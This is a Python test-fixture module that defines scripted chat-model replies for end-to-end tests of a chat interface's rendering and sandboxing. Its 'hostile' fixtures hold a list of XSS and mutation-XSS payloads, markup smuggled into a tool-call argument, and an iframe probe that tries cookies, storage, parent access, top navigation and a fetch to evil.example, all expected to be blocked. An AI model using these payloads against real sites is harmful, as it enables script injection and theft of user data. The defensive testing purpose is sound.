"""The texts that the model `scripted` says, and the prompts that make it say them."""

from __future__ import annotations

from typing import Final

from tests.e2e.tools import calling
from tests.e2e.tools.calling import call
from tests.scripted import trigger

#: A prompt has the last message only: two triggers would be one too many.
TEMPLATE: Final = calling.TEMPLATE.replace("{% for m in messages %}", "{% for m in messages[-1:] %}")
assert TEMPLATE != calling.TEMPLATE

MARKDOWN: Final = """\
# A heading

Some *emphasis*, **strong** words and `code`. A [link](https://puna.example/page).

| Name | Size |
| ---- | ---: |
| one  |  1   |
| two  |  22  |

- first
- second

```python
def add(a: int, b: int) -> int:
    return a + b
```

Maths inline $a^2 + b^2 = c^2$ and alone:

$$\\int_0^1 x^2 dx = \\frac{1}{3}$$
"""

SUNNY: Final = "It is sunny in Lima."
THOUGHT: Final = "The sum of two and two is wanted."
FOUR: Final = "The answer is four."
LONG: Final = "\n\n".join(f"Paragraph {number} of the long answer." for number in range(1, 201))
ARTEFACT: Final = """\
A small page:

```html
<!doctype html><title>A game</title><button onclick="this.textContent = 'pressed'">press me</button>
```
"""
DRAWING: Final = """\
```svg
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" fill="teal"/></svg>
```
"""
HEBREW: Final = "שלום עולם, זו תשובה מימין לשמאל."
HOSTILE: Final = """\
<script>window.__pwned = "script"</script>
<img src=x onerror="window.__pwned = 'img'">
<svg onload="window.__pwned = 'svg'"><animate onbegin="window.__pwned = 'animate'" attributeName=x></svg>
<iframe srcdoc="<script>parent.__pwned = 'frame'</script>"></iframe>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned='mxss'&gt;">
<details open ontoggle="window.__pwned = 'toggle'"><summary>more</summary></details>
<a href="javascript:window.__pwned = 'link'">harmless</a>
<form action="https://evil.example/"><input autofocus onfocus="__pwned = 'focus'"><button>go</button></form>
<style>@import url(https://evil.example/style.css); body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<object data="https://evil.example/x"></object><embed src="https://evil.example/x">
<video src="https://evil.example/x" onerror="window.__pwned = 'video'" autoplay></video>
<div style="background: url(https://evil.example/x)">styled</div>
<input type=image src=https://evil.example/x onerror="window.__pwned = 'input'">

[click me](javascript:window.__pwned='markdown') [and me](data:text/html,<script>parent.__pwned=1</script>)
[vb](vbscript:alert(1)) <javascript:window.__pwned='auto'> ![picture](https://evil.example/picture.png)
![x](x"onerror="window.__pwned='alt') [a](https://puna.example/"onmouseover="window.__pwned='title')

`<img src=x onerror=window.__pwned='code'>` $\\href{javascript:window.__pwned='katex'}{x}$
$\\includegraphics{https://evil.example/x.png} \\htmlId{app}{x} \\htmlStyle{background:url(https://evil.example)}{y}$

```html"><img src=x onerror=window.__pwned='language'>
<img src=x onerror=window.__pwned='block'>
```

The end of the hostile text.
"""
HOSTILE_CALL: Final = call(
    {"city": "</pre><img src=x onerror=\"window.__pwned = 'argument'\">"},
    "<img/src=x/onerror=window.__pwned=1>",
)
#: Tries all that a document in a frame might do, and writes down what came of it.
HOSTILE_ARTEFACT: Final = """\
```html
<!doctype html><body><p id="report"></p><script>
const tries = {
  page: () => parent.document.title,
  storage: () => localStorage.length,
  cookies: () => document.cookie,
  canary: () => { parent.__pwned = "frame"; },
  top: () => { top.location.href = "https://evil.example/"; },
};
const found = [];
for (const [name, act] of Object.entries(tries)) {
  try { act(); found.push(name + " open"); } catch { found.push(name + " closed"); }
}
const picture = new Image();
picture.onerror = () => {
  found.push("picture closed");
  const sent = fetch("https://evil.example/").then(() => "net open", () => "net closed");
  sent.then((net) => { document.querySelector("#report").textContent = [...found, net].join(", "); });
};
picture.src = "https://evil.example/picture.png";
</script>
```
"""
ANSWERS_TO_ARTEFACTS: Final = ", ".join(
    f"{name} closed" for name in ("page", "storage", "cookies", "canary", "top", "picture", "net")
)
HOSTILE_THOUGHT: Final = "<think>\n" + HOSTILE.replace("\n\n", "\n") + "</think>\n\nI thought."

#: By name; the order is that of the triggers.
_SCRIPTS: Final = {
    "sunny": SUNNY,
    "markdown": MARKDOWN,
    "thought": f"<think>\n{THOUGHT}\n</think>\n\n{FOUR}",
    "call": f"I look.\n{call({'city': 'Lima', 'days': 2})}",
    "long": LONG,
    "artefact": ARTEFACT,
    "drawing": DRAWING,
    "hebrew": HEBREW,
    "hostile": HOSTILE,
    "hostile call": HOSTILE_CALL,
    "hostile thought": HOSTILE_THOUGHT,
    "hostile artefact": HOSTILE_ARTEFACT,
}
TEXTS: Final = list(_SCRIPTS.values())


def asking_for(name: str, words: str = "") -> str:
    """Return a question that `scripted` answers with the text of this name."""
    return f"{trigger(list(_SCRIPTS).index(name))} {words}".strip()
